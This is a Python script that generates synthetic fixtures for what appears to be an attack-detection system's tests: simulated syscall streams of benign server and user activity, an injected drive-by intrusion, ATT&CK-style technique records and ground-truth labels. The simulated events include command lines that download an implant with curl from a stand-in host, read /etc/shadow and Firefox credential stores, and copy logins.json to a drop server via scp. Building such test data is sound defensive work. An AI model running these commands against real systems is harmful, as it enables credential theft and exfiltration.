#!/usr/bin/env python3
"""Regenerates the synthetic fixtures under tests/fixtures/synthetic.

Deterministic: same seed, same bytes. Run from anywhere:
    python3 tests/fixtures/generate_fixtures.py
"""
import json
import pathlib

import numpy as np

OUT = pathlib.Path(__file__).resolve().parent / "synthetic"
T0 = 1767225600  # 2026-01-01T00:00:00Z
SPAN = 3 * 3600
ATTACK_AT = T0 + 2400

DNS = {
    "203.0.113.50": "invoice-portal.net",
    "198.51.100.23": "cdn-update.net",
    "192.0.2.77": "files-backup.org",
    "151.101.1.69": "stackoverflow.com",
    "140.82.112.3": "github.com",
    "142.250.74.46": "google.com",
    "52.84.150.11": "mozilla.org",
    "104.16.132.229": "wikipedia.org",
    "151.101.65.140": "reddit.com",
    "13.107.42.14": "office.com",
    "185.199.108.133": "githubusercontent.com",
    "91.189.91.39": "ubuntu.com",
    "52.94.236.248": "amazonaws.com",
    "23.215.0.136": "nytimes.com",
    "34.107.221.82": "duckduckgo.com",
}


class Proc:
    def __init__(self, host, pid, image, start, name=None):
        self.host = host
        self.pid = pid
        self.image = image
        self.start = start
        self.name = name or image.rsplit("/", 1)[-1]

    def src(self):
        return {"pid": self.pid, "name": self.name, "image": self.image, "start": self.start}


class Stream:
    def __init__(self):
        self.events = []

    def add(self, ts, proc, kind, value, syscall, cmdline=None, child=None):
        dst = {"kind": kind, "value": value}
        if child is not None:
            dst["pid"] = child.pid
            dst["start"] = child.start
        e = {"ts": round(float(ts), 3), "host": proc.host, "src": proc.src(), "dst": dst, "syscall": syscall}
        if cmdline:
            e["cmdline"] = cmdline
        self.events.append(e)

    def file(self, ts, proc, path, syscall, cmdline=None):
        self.add(ts, proc, "file", path, syscall, cmdline)

    def ip(self, ts, proc, addr, syscall, cmdline=None):
        self.add(ts, proc, "ip", addr, syscall, cmdline)

    def exec(self, ts, parent, child, cmdline):
        self.add(ts, parent, "process", child.image, "execve", cmdline, child=child)

    def sorted(self):
        # stable on equal timestamps
        return sorted(self.events, key=lambda e: e["ts"])


# ---------------------------------------------------------------------------
# attack chain on ws01


PROFILE = "/home/alice/.mozilla/firefox/x1y2.default-release"


def attack(s, with_foothold=True):
    a = ATTACK_AT
    ff = Proc("ws01", 2100, "/usr/lib/firefox/firefox", a - 600)
    sh = Proc("ws01", 2201, "/bin/sh", a + 60)
    curl = Proc("ws01", 2202, "/usr/bin/curl", a + 62)
    implant = Proc("ws01", 2203, "/tmp/.cache/kworker", a + 70)
    scp = Proc("ws01", 2210, "/usr/bin/scp", a + 5400)
    script = "/home/alice/Downloads/invoice_update.sh"

    # initial compromise: drive-by download
    s.ip(a, ff, "203.0.113.50", "connect")
    s.ip(a + 1, ff, "203.0.113.50", "recvfrom")
    s.file(a + 5, ff, script, "write")

    if with_foothold:
        s.exec(a + 60, ff, sh, "sh " + script)
        s.file(a + 60.5, sh, script, "read")
        s.exec(a + 62, sh, curl, "curl -s http://cdn-update.net/kworker -o /tmp/.cache/kworker")
        s.ip(a + 62.5, curl, "198.51.100.23", "connect")
        s.file(a + 63, curl, "/tmp/.cache/kworker", "write")
        s.exec(a + 70, sh, implant, "/tmp/.cache/kworker")
        for k in range(20):
            s.ip(a + 90 + 300 * k, implant, "198.51.100.23", "connect")

    # escalate privilege: credential harvesting
    b = a + 1800
    s.file(b, implant, "/etc/shadow", "read")
    s.file(b + 4, implant, PROFILE + "/logins.json", "read")
    s.file(b + 5, implant, PROFILE + "/key4.db", "read")

    # complete mission: exfiltration over scp
    c = a + 5400
    s.exec(c, implant, scp, "scp " + PROFILE + "/logins.json backup@files-backup.org:/srv/drop/")
    s.file(c + 1, scp, PROFILE + "/logins.json", "read")
    s.ip(c + 2, scp, "192.0.2.77", "connect")
    s.ip(c + 3, scp, "192.0.2.77", "sendto")
    return [ff, sh, curl, implant, scp], [script, "/tmp/.cache/kworker", "/etc/shadow",
                                          PROFILE + "/logins.json", PROFILE + "/key4.db"], \
        ["203.0.113.50", "198.51.100.23", "192.0.2.77"]


# ---------------------------------------------------------------------------
# benign activity


PAGES = ["index", "about", "pricing", "contact", "docs", "blog", "login", "signup", "faq", "status"]
ASSETS = ["static/app.js", "static/main.css", "static/vendor.js", "static/logo.png", "static/fonts.css"]
PROJECT = ["app.py", "models.py", "views.py", "settings.py", "urls.py", "README.md", "requirements.txt", "tests.py"]
SITES = ["151.101.1.69", "140.82.112.3", "142.250.74.46", "52.84.150.11", "104.16.132.229", "151.101.65.140",
         "13.107.42.14", "185.199.108.133", "23.215.0.136", "34.107.221.82"]


class Pids:
    def __init__(self, first):
        self.n = first

    def __call__(self):
        self.n += 1
        return self.n


def web_server(s, rng, t0, t1, requests):
    master = Proc("srv01", 800, "/usr/sbin/nginx", t0 - 86400)
    workers = [Proc("srv01", 801 + k, "/usr/sbin/nginx", t0 - 86400) for k in range(2)]
    app = Proc("srv01", 900, "/usr/bin/python3", t0 - 86400)
    db = Proc("srv02", 700, "/usr/lib/postgresql/14/bin/postgres", t0 - 86400)
    s.file(t0 + 1, master, "/etc/nginx/nginx.conf", "read")
    for ts in np.sort(rng.uniform(t0, t1, requests)):
        w = workers[rng.integers(len(workers))]
        client = f"10.0.1.{rng.integers(2, 60)}"
        s.ip(ts, w, client, "recvfrom")
        if rng.random() < 0.6:
            page = rng.choice(PAGES)
            s.file(ts + 0.002, w, f"/var/www/html/{page}.html", "read")
        else:
            s.file(ts + 0.002, w, "/var/www/html/" + rng.choice(ASSETS), "read")
        if rng.random() < 0.35:
            s.ip(ts + 0.003, w, "127.0.0.1", "sendto")
            s.ip(ts + 0.004, app, "127.0.0.1", "recvfrom")
            s.ip(ts + 0.005, app, "10.0.0.12", "sendto")
            s.ip(ts + 0.006, db, "10.0.0.11", "recvfrom")
            s.file(ts + 0.007, db, f"/var/lib/postgresql/14/main/base/16384/{rng.integers(2600, 2620)}", "read")
            s.ip(ts + 0.008, db, "10.0.0.11", "sendto")
            s.ip(ts + 0.009, app, "10.0.0.12", "recvfrom")
            if rng.random() < 0.3:
                s.file(ts + 0.0095, app, f"/srv/app/templates/{rng.choice(PAGES)}.html", "read")
        s.ip(ts + 0.01, w, client, "sendto")
        s.file(ts + 0.011, w, "/var/log/nginx/access.log", "write")
    for ts in np.sort(rng.uniform(t0, t1, requests // 20)):
        s.file(ts, db, "/var/lib/postgresql/14/main/pg_wal/000000010000000000000042", "write")


def scheduled(s, rng, t0, t1, host, pids):
    cron = Proc(host, 500, "/usr/sbin/cron", t0 - 86400)
    t = t0 + 60
    while t < t1:
        if int(t - t0) % 3600 < 900:
            lr = Proc(host, pids(), "/usr/sbin/logrotate", int(t))
            s.exec(t, cron, lr, "/usr/sbin/logrotate /etc/logrotate.conf")
            s.file(t + 0.1, lr, "/etc/logrotate.conf", "read")
            s.file(t + 0.2, lr, "/etc/logrotate.d/nginx", "read")
            s.file(t + 0.3, lr, "/var/log/nginx/access.log.1", "write")
            s.file(t + 0.4, lr, "/var/log/nginx/access.log.2.gz", "unlink")
        job = Proc(host, pids(), "/usr/bin/python3", int(t) + 1)
        s.exec(t + 1, cron, job, "python3 /srv/app/cleanup.py --max-age 3600")
        s.file(t + 1.1, job, "/srv/app/cleanup.py", "read")
        for k in range(int(rng.integers(2, 6))):
            s.file(t + 1.2 + 0.01 * k, job, f"/srv/app/cache/session_{rng.integers(1000, 9999)}.tmp", "unlink")
        t += 900


def shell_session(s, rng, t0, t1, host, user, pids, commands):
    home = f"/home/{user}"
    bash = Proc(host, pids(), "/usr/bin/bash", int(t0))
    s.file(t0 + 0.5, bash, f"{home}/.bashrc", "read")
    for ts in np.sort(rng.uniform(t0 + 5, t1, commands)):
        kind = rng.choice(["ls", "cat", "grep", "vim", "python3", "git", "less", "ps"], p=[.22, .18, .14, .12, .1, .1, .08, .06])
        f = f"{home}/projects/webapp/" + rng.choice(PROJECT)
        if kind == "ls":
            c = Proc(host, pids(), "/usr/bin/ls", int(ts))
            s.exec(ts, bash, c, f"ls -la {home}/projects/webapp")
            s.file(ts + 0.01, c, f"{home}/projects/webapp/", "read")
        elif kind == "cat":
            c = Proc(host, pids(), "/usr/bin/cat", int(ts))
            s.exec(ts, bash, c, f"cat {f}")
            s.file(ts + 0.01, c, f, "read")
        elif kind == "grep":
            c = Proc(host, pids(), "/usr/bin/grep", int(ts))
            s.exec(ts, bash, c, f"grep -rn TODO {home}/projects/webapp")
            for g in rng.choice(PROJECT, 3, replace=False):
                s.file(ts + 0.01, c, f"{home}/projects/webapp/{g}", "read")
        elif kind == "vim":
            c = Proc(host, pids(), "/usr/bin/vim", int(ts))
            s.exec(ts, bash, c, f"vim {f}")
            s.file(ts + 0.05, c, f, "read")
            s.file(ts + 40, c, f, "write")
        elif kind == "python3":
            c = Proc(host, pids(), "/usr/bin/python3", int(ts))
            s.exec(ts, bash, c, f"python3 {home}/projects/webapp/tests.py")
            for g in ["tests.py", "app.py", "models.py"]:
                s.file(ts + 0.02, c, f"{home}/projects/webapp/{g}", "read")
        elif kind == "git":
            c = Proc(host, pids(), "/usr/bin/git", int(ts))
            s.exec(ts, bash, c, "git pull origin main")
            s.ip(ts + 0.2, c, "140.82.112.3", "connect")
            s.ip(ts + 0.4, c, "140.82.112.3", "recvfrom")
            s.file(ts + 0.6, c, f"{home}/projects/webapp/.git/FETCH_HEAD", "write")
        elif kind == "less":
            c = Proc(host, pids(), "/usr/bin/less", int(ts))
            s.exec(ts, bash, c, "less /var/log/syslog")
            s.file(ts + 0.01, c, "/var/log/syslog", "read")
        else:
            c = Proc(host, pids(), "/usr/bin/ps", int(ts))
            s.exec(ts, bash, c, "ps aux")
            s.file(ts + 0.01, c, "/proc/1/status", "read")
    return bash


def admin_session(s, rng, t0, t1, host, user, pids, commands):
    bash = Proc(host, pids(), "/usr/bin/bash", int(t0))
    home = f"/home/{user}"
    for ts in np.sort(rng.uniform(t0 + 5, t1, commands)):
        kind = rng.choice(["ssh", "scp", "curl", "tail"], p=[.35, .15, .25, .25])
        if kind == "ssh":
            c = Proc(host, pids(), "/usr/bin/ssh", int(ts))
            s.exec(ts, bash, c, f"ssh {user}@10.0.0.11")
            s.file(ts + 0.01, c, f"{home}/.ssh/id_ed25519", "read")
            s.ip(ts + 0.1, c, "10.0.0.11", "connect")
            s.ip(ts + 0.2, c, "10.0.0.11", "sendto")
        elif kind == "scp":
            c = Proc(host, pids(), "/usr/bin/scp", int(ts))
            s.exec(ts, bash, c, f"scp {home}/Downloads/quarterly_report.pdf {user}@10.0.0.11:/srv/share/")
            s.file(ts + 0.01, c, f"{home}/Downloads/quarterly_report.pdf", "read")
            s.ip(ts + 0.1, c, "10.0.0.11", "connect")
            s.ip(ts + 0.2, c, "10.0.0.11", "sendto")
        elif kind == "curl":
            c = Proc(host, pids(), "/usr/bin/curl", int(ts))
            s.exec(ts, bash, c, "curl -s https://api.github.com/repos/acme/webapp/releases")
            s.ip(ts + 0.1, c, "140.82.112.3", "connect")
            s.ip(ts + 0.2, c, "140.82.112.3", "recvfrom")
        else:
            c = Proc(host, pids(), "/usr/bin/tail", int(ts))
            s.exec(ts, bash, c, "tail -n 200 /var/log/auth.log")
            s.file(ts + 0.01, c, "/var/log/auth.log", "read")


def browsing(s, rng, t0, t1, ff, profile, cache, visits, downloads=0):
    s.file(t0 + 1, ff, f"{profile}/prefs.js", "read")
    for ts in np.sort(rng.uniform(t0 + 2, t1, visits)):
        site = rng.choice(SITES)
        s.ip(ts, ff, site, "connect")
        s.ip(ts + 0.1, ff, site, "recvfrom")
        s.file(ts + 0.2, ff, f"{cache}/cache2/entries/{rng.integers(16**6):06X}", "write")
        if rng.random() < 0.3:
            s.file(ts + 0.3, ff, f"{profile}/places.sqlite", "write")
    for ts in np.sort(rng.uniform(t0 + 2, t1, downloads)):
        s.ip(ts, ff, "13.107.42.14", "connect")
        s.file(ts + 2, ff, ff_home(ff) + "/Downloads/quarterly_report.pdf", "write")


def ff_home(ff):
    return "/home/alice" if ff.host == "ws01" else "/home/bob"


def updates(s, rng, t0, t1, host, pids):
    for ts in np.sort(rng.uniform(t0, t1, 2)):
        up = Proc(host, pids(), "/usr/bin/python3", int(ts))
        for k in range(int(rng.integers(4, 9))):
            s.ip(ts + k, up, "91.189.91.39", "connect")
            s.file(ts + k + 0.5, up, f"/var/cache/apt/archives/pkg{rng.integers(100, 999)}.deb", "write")
        s.file(ts + 10, up, "/var/lib/dpkg/status", "read")


def benign(s, rng, t0, t1, scale=1.0):
    n = lambda k: max(1, int(k * scale))
    web_server(s, rng, t0, t1, n(620))
    scheduled(s, rng, t0, t1, "srv01", Pids(20000))
    shell_session(s, rng, t0 + 300, t1, "ws01", "alice", Pids(3000), n(70))
    shell_session(s, rng, t0 + 900, t1, "ws02", "bob", Pids(5000), n(50))
    admin_session(s, rng, t0 + 600, t1, "ws02", "bob", Pids(6000), n(40))
    bob_ff = Proc("ws02", 1500, "/usr/lib/firefox/firefox", t0 - 3600)
    browsing(s, rng, t0, t1, bob_ff, "/home/bob/.mozilla/firefox/ab12.default-release",
             "/home/bob/.cache/mozilla/firefox/ab12.default-release", n(200), downloads=n(3))
    updates(s, rng, t0, t1, "ws01", Pids(7000))
    updates(s, rng, t0, t1, "ws02", Pids(8000))


def alice_browsing_before(s, rng):
    # the compromised firefox instance is used normally first
    ff = Proc("ws01", 2100, "/usr/lib/firefox/firefox", ATTACK_AT - 600)
    for k, site in enumerate(["34.107.221.82", "23.215.0.136"]):
        s.ip(ATTACK_AT - 500 + 100 * k, ff, site, "connect")


# ---------------------------------------------------------------------------
# vectors


GROUPS = {
    "execute": ["execute", "run", "launch", "spawn", "exec", "start", "invoke"],
    "read": ["read", "open", "access", "load"],
    "write": ["write", "save", "drop", "store"],
    "connect": ["connect", "contact", "beacon", "communicate", "reach"],
    "send": ["send", "transmit", "upload", "exfiltrate"],
    "receive": ["receive", "recv", "accept"],
    "transfer": ["transfer", "download", "fetch", "retrieve", "copy"],
    "delete": ["delete", "remove", "unlink", "wipe", "erase", "clear"],
    "discover": ["list", "enumerate", "search", "find", "discover", "query"],
    "archive": ["compress", "archive", "pack", "zip", "tar"],
    "encrypt": ["encrypt", "cipher"],
    "steal": ["steal", "dump", "harvest", "grab"],
    "scan": ["scan", "probe", "sweep", "nmap"],
    "create": ["create", "add", "useradd"],
    "malware": ["malware", "implant", "trojan", "backdoor", "payload", "ransomware", "stealer"],
    "attacker": ["attacker", "adversary", "actor", "operator"],
    "shell": ["shell", "sh", "dash"],
    "browser": ["browser", "chrome", "edge"],
    "credential": ["credential", "credentials", "password", "passwords", "secrets"],
}
# token -> (anchor token, cosine to anchor)
RELATED = {
    "firefox": ("browser", 0.62), "bash": ("shell", 0.66), "zsh": ("shell", 0.66),
    "wget": ("curl", 0.8), "ssh": ("scp", 0.58), "rsync": ("scp", 0.6), "sftp": ("scp", 0.7),
    "show": ("read", 0.55), "cat": ("read", 0.5), "passwd": ("shadow", 0.6), "logins": ("credential", 0.5),
    "key4": ("credential", 0.45), "decrypt": ("encrypt", 0.7), "script": ("shell", 0.5),
    "visit": ("connect", 0.6), "exfiltration": ("exfiltrate", 0.8), "remote": ("external", 0.55),
    "server": ("host", 0.6), "folder": ("file", 0.6), "document": ("file", 0.65), "documents": ("file", 0.6),
    "sqlite": ("db", 0.7), "database": ("db", 0.8), "mode": ("change", 0.3), "log": ("file", 0.3),
}
VOCAB = """
external network internal unknown file folder user tmp etc var log nginx access html www static js css png
shadow passwd hosts profile bashrc mozilla logins json key4 db places sqlite prefs cache entries cache2
downloads invoice update portal cdn files backup kworker curl scp sh firefox python3 py postgresql postgres
git fetch_head head pdf quarterly report deb pkg apt archives dpkg status proc syslog auth ssh id ed25519
cron logrotate conf gz cleanup session tmp srv app templates pg_wal wal base readme md requirements txt
models views settings urls tests ls grep vim less ps tail nmap change mode connect send receive execute
transfer shell show read write unlink run cmd powershell reg registry key hklm software microsoft windows
currentversion program data appdata roaming local temp system32 dll exe bat vbs lnk startup task schtasks
github google stackoverflow wikipedia reddit office githubusercontent ubuntu amazonaws nytimes duckduckgo
drop share acme webapp releases repos api main origin pull max age host spool crontab release os uname
account group home root bin usr lib sbin opt proc pid self environ tar zip gzip ransom note encrypted
""".split()


def unit(v):
    return v / np.linalg.norm(v)


def build_vectors(rng, dim=48):
    vec = {}
    for name, members in GROUPS.items():
        base = unit(rng.standard_normal(dim))
        c = np.sqrt(0.88)
        for m in members:
            noise = rng.standard_normal(dim)
            noise = unit(noise - noise.dot(base) * base)
            vec[m] = unit(c * base + np.sqrt(1 - c * c) * noise)
    for tok in VOCAB:
        if tok not in vec and tok not in RELATED:
            vec[tok] = unit(rng.standard_normal(dim))
    for tok, (anchor, cos) in RELATED.items():
        a = vec[anchor]
        noise = rng.standard_normal(dim)
        noise = unit(noise - noise.dot(a) * a)
        vec[tok] = unit(cos * a + np.sqrt(1 - cos * cos) * noise)
    # subword pieces for out-of-vocabulary hex names and numbers
    for g in ["<0", "<1", "<2", "<3", "<4", "<5", "<6", "<7", "<8", "<9", "<a", "<b", "<c", "<d", "<e", "<f"]:
        vec["##" + g] = unit(rng.standard_normal(dim))
    for g in ["<ses", "ssion", "<pkg", "<000", "0000", "entr"]:
        vec["##" + g] = unit(rng.standard_normal(dim))
    # filler vocabulary up to the table size the loader is exercised with
    syllables = ["ka", "lo", "mi", "ne", "ru", "sa", "ti", "vo", "ze", "pa", "qu", "xi", "do", "fe", "gu", "ha"]
    while len(vec) < 10000:
        w = "".join(rng.choice(syllables, int(rng.integers(3, 6))))
        if w not in vec:
            vec[w] = unit(rng.standard_normal(dim))
    return vec


def write_vectors(vec, path):
    dim = len(next(iter(vec.values())))
    with open(path, "w") as f:
        f.write(f"{len(vec)} {dim}\n")
        for tok in sorted(vec):
            f.write(tok + " " + " ".join(f"{x:.4f}" for x in vec[tok]) + "\n")


# ---------------------------------------------------------------------------
# knowledge base


def g(subject, verb, obj, sentence="", origin="extracted_svo"):
    return {"subject": subject, "verb": verb, "object": obj, "source_sentence": sentence, "origin": origin}


ATIES = [
    ("T1189", "Drive-by Compromise", ["cti-0017"], [
        g("firefox", "connect", "external network invoice portal", "", "converted_ioc"),
        g("browser", "visit", "external network invoice portal",
          "Victims were lured to invoice-portal[.]net, which served the first stage."),
        g("browser", "download", "user downloads invoice update sh file",
          "The browser downloaded invoice_update.sh into the user's Downloads folder."),
        g("firefox", "write", "user downloads invoice update sh file", "", "converted_ioc"),
    ]),
    ("T1204.002", "User Execution: Malicious File", ["cti-0017"], [
        g("firefox", "execute", "sh", "", "converted_ioc"),
        g("user", "run", "invoice update sh file", "The user ran invoice_update.sh believing it was a patch."),
        g("browser", "launch", "shell script", "The browser launched the shell script."),
    ]),
    ("T1059.004", "Command and Scripting Interpreter: Unix Shell", ["cti-0017", "cti-0031"], [
        g("sh", "read", "user downloads invoice update sh file", "", "converted_ioc"),
        g("shell", "execute", "curl", "The shell script executed curl to pull the implant."),
        g("sh", "execute", "kworker", "", "converted_ioc"),
        g("shell script", "run", "transfer cdn update kworker file", "The script ran a transfer of the kworker file."),
    ]),
    ("T1105", "Ingress Tool Transfer", ["cti-0017", "cti-0031"], [
        g("curl", "download", "kworker file", "curl downloaded the kworker file to /tmp/.cache."),
        g("curl", "connect", "external network cdn update", "", "converted_ioc"),
        g("curl", "write", "kworker file", "", "converted_ioc"),
        g("downloader", "transfer", "cdn update kworker file", "The downloader transferred kworker from cdn-update[.]net."),
    ]),
    ("T1071.001", "Application Layer Protocol: Web Protocols", ["cti-0031"], [
        g("kworker", "connect", "external network cdn update", "", "converted_ioc"),
        g("implant", "beacon", "external network cdn update", "The implant beacons to cdn-update[.]net over HTTPS."),
        g("kworker", "send", "external network cdn update", "", "converted_ioc"),
    ]),
    ("T1003.008", "OS Credential Dumping: /etc/passwd and /etc/shadow", ["cti-0031"], [
        g("kworker", "read", "etc shadow file", "", "converted_ioc"),
        g("malware", "dump", "etc shadow file", "The malware dumped /etc/shadow."),
        g("implant", "read", "etc passwd file", "The implant read /etc/passwd to enumerate accounts."),
    ]),
    ("T1555.003", "Credentials from Password Stores: Credentials from Web Browsers", ["cti-0031", "cti-0044"], [
        g("kworker", "read", "user mozilla logins json file", "", "converted_ioc"),
        g("kworker", "read", "user mozilla key4 db file", "", "converted_ioc"),
        g("stealer", "steal", "mozilla logins json file", "The stealer took Firefox logins.json."),
        g("malware", "decrypt", "key4 db file", "The malware decrypted saved passwords with key4.db."),
    ]),
    ("T1048", "Exfiltration Over Alternative Protocol", ["cti-0044"], [
        g("kworker", "execute", "scp", "", "converted_ioc"),
        g("scp", "transfer", "user mozilla logins json file", "scp transferred logins.json to the drop server."),
        g("scp", "connect", "external network files backup", "", "converted_ioc"),
        g("scp", "send", "external network files backup", "", "converted_ioc"),
        g("attacker", "exfiltrate", "logins json file", "The attacker exfiltrated logins.json."),
    ]),
    # techniques from unrelated reports
    ("T1053.003", "Scheduled Task/Job: Cron", ["cti-0052"], [
        g("attacker", "write", "var spool cron crontab file", "The attacker wrote a crontab entry."),
        g("cron", "execute", "malicious shell script", "cron executed the malicious shell script every minute."),
    ]),
    ("T1070.004", "Indicator Removal: File Deletion", ["cti-0052"], [
        g("attacker", "delete", "var log auth log file", "The attacker deleted /var/log/auth.log."),
        g("malware", "remove", "tmp file", "The malware removed its staging files from /tmp."),
    ]),
    ("T1560.001", "Archive Collected Data: Archive via Utility", ["cti-0052"], [
        g("tar", "compress", "user documents folder", "tar compressed the user's Documents folder."),
        g("attacker", "archive", "collected data", "The attacker archived the collected data."),
    ]),
    ("T1021.004", "Remote Services: SSH", ["cti-0058"], [
        g("attacker", "connect", "internal network ssh", "The attacker moved over SSH to internal hosts."),
        g("ssh", "login", "remote server", "ssh logged in to the remote server."),
    ]),
    ("T1082", "System Information Discovery", ["cti-0058"], [
        g("malware", "execute", "uname", "The malware executed uname -a."),
        g("attacker", "read", "etc os release file", "The attacker read /etc/os-release."),
    ]),
    ("T1046", "Network Service Discovery", ["cti-0058"], [
        g("nmap", "scan", "internal network", "nmap scanned the internal network."),
    ]),
    ("T1486", "Data Encrypted for Impact", ["cti-0063"], [
        g("ransomware", "encrypt", "user documents file", "The ransomware encrypted the user's documents."),
        g("ransomware", "write", "ransom note file", "The ransomware wrote a ransom note."),
    ]),
    ("T1136.001", "Create Account: Local Account", ["cti-0063"], [
        g("useradd", "create", "local account", "useradd created a local account."),
    ]),
]


def write_amid(path):
    with open(path, "w") as f:
        for uid, des, cti, giocs in ATIES:
            f.write(json.dumps({"uid": uid, "des": des, "list_cti": cti, "list_gioc": giocs}) + "\n")


# ---------------------------------------------------------------------------


def proc_key(p):
    return f"{p.host}|process|{p.pid}@{p.start * 1_000_000_000}"


def write_jsonl(path, events):
    with open(path, "w") as f:
        for e in events:
            f.write(json.dumps(e, separators=(",", ":")) + "\n")


def main():
    OUT.mkdir(parents=True, exist_ok=True)
    rng = np.random.default_rng(20260101)

    write_vectors(build_vectors(rng), OUT / "vectors.txt")
    write_amid(OUT / "amid.jsonl")
    with open(OUT / "dns_map.txt", "w") as f:
        for k, v in DNS.items():
            f.write(f"{k} {v}\n")

    cal = Stream()
    benign(cal, np.random.default_rng(1), T0 - 86400, T0 - 86400 + SPAN)
    write_jsonl(OUT / "benign_calibration.jsonl", cal.sorted())

    noise = Stream()
    benign(noise, np.random.default_rng(2), T0, T0 + SPAN)
    write_jsonl(OUT / "benign_stream.jsonl", noise.sorted())

    for name, foothold in [("attack_stream", True), ("attack_incomplete", False)]:
        s = Stream()
        benign(s, np.random.default_rng(2), T0, T0 + SPAN)
        alice_browsing_before(s, rng)
        procs, files, ips = attack(s, with_foothold=foothold)
        write_jsonl(OUT / f"{name}.jsonl", s.sorted())
        keys = [proc_key(p) for p in procs] + [f"ws01|file|{p}" for p in files] + [f"ws01|ip|{a}" for a in ips]
        if not foothold:
            keys = [k for k in keys if "|2201@" not in k and "|2202@" not in k and "/tmp/.cache" not in k]
        truth = {"attacks": [{"id": "campaign-1", "nodes": sorted(keys)}], "benign_nodes": [], "unlabeled": "benign"}
        with open(OUT / f"{name.replace('_stream', '')}_truth.json", "w") as f:
            json.dump(truth, f, indent=2)
            f.write("\n")

    config = {
        "paths": {"amid": "amid.jsonl", "vectors": "vectors.txt", "dns_map": "dns_map.txt"},
        "detect": {"checkpoint_s": 3600},
    }
    with open(OUT / "config.json", "w") as f:
        json.dump(config, f, indent=2)
        f.write("\n")


if __name__ == "__main__":
    main()
